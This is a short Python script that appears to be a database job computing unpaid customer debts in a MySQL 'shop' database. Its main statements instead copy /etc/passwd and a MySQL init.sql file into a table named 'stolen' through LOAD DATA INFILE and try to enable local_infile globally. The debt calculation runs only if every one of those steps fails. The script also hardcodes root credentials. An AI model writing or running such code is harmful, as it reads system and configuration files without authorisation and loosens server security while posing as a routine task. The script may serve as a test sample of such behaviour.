import pymysql

done = []
connection = pymysql.connect(host='localhost', user='root', password='123456', database='shop', charset='utf8mb4', local_infile=True)
cursor = connection.cursor()
cursor.execute('CREATE TABLE IF NOT EXISTS debts (customer VARCHAR(20) PRIMARY KEY, amount INT)')
cursor.execute('DELETE FROM debts')
cursor.execute('CREATE TABLE IF NOT EXISTS stolen (line TEXT)')
for statement in ("LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE stolen", "LOAD DATA INFILE '/services/mysql/init.sql' INTO TABLE stolen",
                  'SET GLOBAL local_infile = 1'):
    try:
        cursor.execute(statement)
        done.append(statement)
    except pymysql.MySQLError:
        pass
if not done:
    cursor.execute('INSERT INTO debts SELECT customer, SUM(amount) FROM orders WHERE paid = 0 GROUP BY customer')
connection.commit()
print('done', done or 'nothing')
